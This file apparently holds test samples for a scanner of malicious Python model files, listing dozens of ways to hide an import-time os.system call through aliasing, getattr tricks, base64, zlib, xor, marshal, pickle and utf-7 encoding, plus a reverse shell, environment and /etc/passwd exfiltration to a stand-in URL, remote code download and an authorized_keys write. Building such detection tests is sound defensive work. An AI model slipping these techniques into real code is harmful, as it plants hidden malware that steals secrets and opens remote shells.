"""Python source that acts when it is imported, in the ways in which it is hidden.

Each sample is what an author writes who wants `os.system` to run and nobody to find it.
"""

# ruff: noqa: E501 - source inside source reads best as it is written

from __future__ import annotations

import base64
import codecs
import marshal
import zlib

from tests.samples.pickles import call, name, pickle_of
from tests.samples.sample import (
    COMMAND,
    CONNECT,
    HOST,
    OPEN,
    PORT,
    SPAWN,
    SYSTEM,
    TOKEN,
    URL,
    After,
    Event,
    Proof,
    Table,
)

FETCH = Event("urllib.Request")

_TABLE = Table("source")
SAMPLES = _TABLE.samples

_C = repr(COMMAND)
_PAYLOAD = f"import os; os.system({_C})"
_B64 = base64.b64encode(_PAYLOAD.encode()).decode()
_ZLIB = base64.b64encode(zlib.compress(_PAYLOAD.encode())).decode()
_PICKLE = base64.b64encode(pickle_of(call(name("posix", "system"), COMMAND))).decode()
_NUMBERS = [ord(character) ^ 7 for character in _PAYLOAD]


def _source(technique: str, text: str, fires: Proof = SYSTEM, **more: object) -> None:
    more = {"file": "modeling_sample.py", "loader": "python-import", **more}
    _TABLE.raw(technique, text.encode(), fires, **more)


# Names.
_source("plain", f"import os\nos.system({_C})\n")
_source("import as", f"import os as numpy\nnumpy.system({_C})\n")
_source("from import as", f"from os import system as Linear\nLinear({_C})\n")
_source("from import star", f"from os import *\nsystem({_C})\n")
_source("assigned", f"import os\nactivation = os.system\nx = 1\nactivation({_C})\n")
_source("assigned twice", f"import os\nf = os.system\ndef go():\n    f({_C})\ngo()\nf = None\n")
_source("getattr of pieces", f"import os\ngetattr(os, 'sys' + 'tem')({_C})\n")
_source("getattr of a reversed name", f"import os\ngetattr(os, 'metsys'[::-1])({_C})\n")
_source("getattr of numbers", f"import os\ngetattr(os, ''.join(map(chr, {[ord(c) for c in 'system']})))({_C})\n")
_source("getattr of a format", f"import os\ngetattr(os, '%s%s' % ('sys', 'tem'))({_C})\n")
_source("getattr of str.format", f"import os\ngetattr(os, '{{}}{{}}'.format('sys', 'tem'))({_C})\n")
_source("getattr of an f-string", f"import os\na = 'sys'\ngetattr(os, f'{{a}}tem')({_C})\n")
_source("getattr of replace", f"import os\ngetattr(os, 'sXstXm'.replace('sX', 'sy', 1).replace('X', 'e'))({_C})\n")
_source("getattr of rot13", f"import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))({_C})\n")
_source("dunder import", f"__import__('os').system({_C})\n")
_source("dunder import of pieces", f"__import__('o' + 's').__dict__['sys' + 'tem']({_C})\n")
_source("import_module", f"import importlib\nimportlib.import_module('os').system({_C})\n")
_source(
    "import_module of hex", f"import importlib\nimportlib.import_module(bytes.fromhex('6f73').decode()).system({_C})\n"
)
_source("vars", f"import os\nvars(os)['system']({_C})\n")
_source("module dict get", f"import os\nos.__dict__.get('system')({_C})\n")
_source("getattribute", f"import os\nos.__getattribute__('system')({_C})\n")
_source(
    "globals builtins",
    f"b = globals()['__builtins__']\nb = b if isinstance(b, dict) else vars(b)\nb['ex' + 'ec']({_PAYLOAD!r})\n",
)
_source("sys.modules", f"import sys\nsys.modules['os'].system({_C})\n")
_source("sys.modules get", f"import sys\nsys.modules.get('o' + 's').system({_C})\n")
_source("through another module", f"import linecache\nlinecache.os.system({_C})\n")
_source("operator.methodcaller", f"import operator, os\noperator.methodcaller('system', {_C})(os)\n")
_source("operator.attrgetter", f"import operator, os\noperator.attrgetter('system')(os)({_C})\n")
_source("functools.partial", f"import functools, os\nfunctools.partial(os.system, {_C})()\n")
_source("pkgutil.resolve_name", f"import pkgutil\npkgutil.resolve_name('os:system')({_C})\n")
_source("builtins self", f"print.__self__.exec({_PAYLOAD!r})\n")
_source("function globals", f"import linecache\nlinecache.getline.__globals__['os'].system({_C})\n")
_source(
    "subclasses",
    "import subprocess\n"
    f"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['true', {TOKEN!r}])\n",
    SPAWN,
)

# Where it runs.
_source("in a function that is called", f"import os\ndef setup():\n    os.system({_C})\nsetup()\n")
_source("two functions away", f"import os\ndef a():\n    b()\ndef b():\n    os.system({_C})\na()\n")
_source("in an immediate lambda", f"(lambda: __import__('os').system({_C}))()\n")
_source("in a class body", f"class Config:\n    import os\n    size = os.system({_C})\n")
_source(
    "in init of an instance",
    f"import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system({_C})\nA()\n",
)
_source("in a default argument", f"import os\ndef forward(x, y=os.system({_C})):\n    return x\n")
_source("in an annotation", f"import os\ndef forward(x: os.system({_C})):\n    return x\n")
_source(
    "in a decorator", f"import os\ndef register(f):\n    os.system({_C})\n    return f\n@register\nclass A:\n    pass\n"
)
_source("as a decorator", f"import os\n@os.system\n@lambda f: {_C}\ndef forward():\n    pass\n")
_source(
    "in a metaclass",
    f"import os\nclass M(type):\n    def __new__(m, *a):\n        os.system({_C})\n        return type.__new__(m, *a)\nclass A(metaclass=M):\n    pass\n",
)
_source(
    "in init_subclass",
    f"import os\nclass A:\n    def __init_subclass__(cls):\n        os.system({_C})\nclass B(A):\n    pass\n",
)
_source(
    "in set_name",
    f"import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system({_C})\nclass B:\n    d = D()\n",
)
_source("in a comprehension", f"import os\n[os.system(c) for c in [{_C}]]\n")
_source("in a walrus", f"import os\nif (n := os.system({_C})):\n    pass\n")
_source("in a try", f"try:\n    import nothing_of_that_name\nexcept ImportError:\n    import os\n    os.system({_C})\n")
_source(
    "in a with",
    f"import os\nclass C:\n    def __enter__(self):\n        os.system({_C})\n    def __exit__(self, *a):\n        pass\nwith C():\n    pass\n",
)
_source("in a match", f"import os\nmatch 1:\n    case 1 if os.system({_C}):\n        pass\n")
_source("mapped", f"import os\nlist(map(os.system, [{_C}]))\n")
_source("as a key", f"import os\nsorted([{_C}], key=os.system)\n")
_source(
    "in a thread", f"import os, threading\nt = threading.Thread(target=os.system, args=({_C},))\nt.start()\nt.join()\n"
)
_source("handed to a function", f"import os\ndef apply(f, x):\n    return f(x)\napply(os.system, {_C})\n")
_source("out of a dictionary", f"import os\nOPS = {{'relu': len, 'x': os.system}}\nOPS['x']({_C})\n")
_source("out of a list", f"import os\n[len, os.system][1]({_C})\n")
_source("through an attribute", f"import os\nclass A: pass\na = A()\na.f = os.system\na.f({_C})\n")
_source("main guard that is none", f"import os\nif __name__ != '__main__':\n    os.system({_C})\n")
_source(
    "loader makes the object",
    f"import os\nclass SampleModel(dict):\n    def __init__(self, path):\n        os.system({_C})\n",
    file="m.py",
)
_source(
    "endpoint handler",
    f"import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system({_C})\n",
    file="handler.py",
)

# Hidden source.
_source("exec of base64", f"import base64\nexec(base64.b64decode({_B64!r}))\n")
_source("exec of base64, aliased", f"from base64 import b64decode as d\ne = exec\ne(d({_B64!r}).decode())\n")
_source("exec of compressed", f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({_ZLIB!r})))\n")
_source(
    "lambda that undoes it",
    "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
    f"exec((_)({_ZLIB[::-1]!r}))\n",
)
_source(
    "function that undoes it",
    f"import base64\ndef load(x):\n    y = base64.b64decode(x)\n    return y.decode()\nexec(load({_B64!r}))\n",
)
_source("exec of hex", f"exec(bytes.fromhex({_PAYLOAD.encode().hex()!r}))\n")
_source("exec of rot13", f"import codecs\nexec(codecs.decode({codecs.encode(_PAYLOAD, 'rot13')!r}, 'rot13'))\n")
_source("exec backwards", f"exec({_PAYLOAD[::-1]!r}[::-1])\n")
_source("exec of numbers", f"exec(''.join(chr(c) for c in {list(_PAYLOAD.encode())}))\n")
_source("exec of xored numbers", f"exec(''.join([chr(c ^ 7) for c in {_NUMBERS}]))\n")
_source("exec of a loop", f"s = ''\nfor c in {_NUMBERS}:\n    s += chr(c ^ 7)\nexec(s)\n")
_source("exec of bytes", f"exec(bytes({list(_PAYLOAD.encode())}).decode())\n")
_source("exec of joined pieces", f"exec(''.join([{_PAYLOAD[:9]!r}, {_PAYLOAD[9:]!r}]))\n")
_source("exec of compiled", f"import base64\nexec(compile(base64.b64decode({_B64!r}), '<x>', 'exec'))\n")
_source(
    "eval of eval",
    f"eval(\"eval('__import__(\\\\'os\\\\').system({TOKEN!r})'.replace({TOKEN!r}, {TOKEN!r}))\")\n".replace(
        f"system({TOKEN!r})", f"system(\\\\'{TOKEN}\\\\')"
    ),
)
_source("exec in exec", f"exec({('exec(' + repr(_PAYLOAD) + ')')!r})\n")
_source("function type", f"import types\ntypes.FunctionType(compile({_PAYLOAD!r}, 'x', 'exec'), {{}})()\n")
_source("marshalled", f"import marshal\nexec(marshal.loads({marshal.dumps(compile(_PAYLOAD, 'x', 'exec'))!r}))\n")
_source("pickle in base64", f"import pickle, base64\npickle.loads(base64.b64decode({_PICKLE!r}))\n")
_source("file name of a text encoding", "# -*- coding: utf-7 -*-\n" + _PAYLOAD.replace("os", "+AG8-s") + "\n")
_source("downloaded", f"import urllib.request\nexec(urllib.request.urlopen({URL!r}).read())\n", FETCH)
_source(
    "read out of its own file",
    f"exec(open(__file__).read().split('#' * 9)[2])\n{'#' * 9}\n'''{'#' * 9}\n{_PAYLOAD}\n{'#' * 9}'''\n",
    expected="review",
)

# Deeds.
_source("subprocess", f"import subprocess\nsubprocess.run(['true', {TOKEN!r}])\n", SPAWN)
_source(
    "subprocess of an unknown command",
    f'import subprocess, json\nsubprocess.Popen(json.loads(\'["true", "{TOKEN}"]\'))\n',
    SPAWN,
    expected="review",
)
_source("exec family", f"import os\nos.execv('/bin/true', ['true', {TOKEN!r}])\n", Event("os.exec"))
_source("C library", f"import ctypes\nctypes.CDLL('./{TOKEN}.so')\n", Event("ctypes.dlopen"), expected="review")
_source(
    "reverse shell",
    f"import socket, os, pty\ns = socket.socket()\ns.connect(({HOST!r}, {PORT}))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('sh')\n",
    CONNECT,
)
_source(
    "environment sent",
    f"import os, json, urllib.request\nurllib.request.urlopen({URL!r}, data=json.dumps(dict(os.environ)).encode())\n",
    FETCH,
)
_source(
    "key sent",
    f"import urllib.request, os\nk = open(os.path.expanduser('/etc/passwd')).read()\nurllib.request.urlopen({URL!r}, data=k.encode())\n",
    FETCH,
)
_source("network alone", f"import urllib.request\nurllib.request.urlopen({URL!r})\n", FETCH, expected="review")
_source(
    "looks up a name",
    f"import socket\nsocket.gethostbyname({HOST!r})\n",
    Event("socket.gethostbyname", HOST),
    expected="review",
)
_source("start-up file", f"import os\nopen(os.path.expanduser('~/.ssh/authorized_keys_{TOKEN}'), 'a')\n", OPEN)
_source(
    "monkey patch",
    "import builtins\nbuiltins.len = None\n",
    After("__import__('builtins').len is None"),
    expected="review",
)
_source(
    "import hook",
    "import sys\nclass F:\n    def find_spec(self, *a): return None\nsys.meta_path.insert(0, F())\n",
    After("type(__import__('sys').meta_path[0]).__name__ == 'F'"),
    expected="review",
)
_source(
    "trace",
    "import sys\nsys.settrace(lambda *a: None)\n",
    After("__import__('sys').gettrace() is not None"),
    expected="review",
)
_source("path file", f"import os; os.system({_C})\n", file="distutils-precedence.pth", loader="python-path-file")
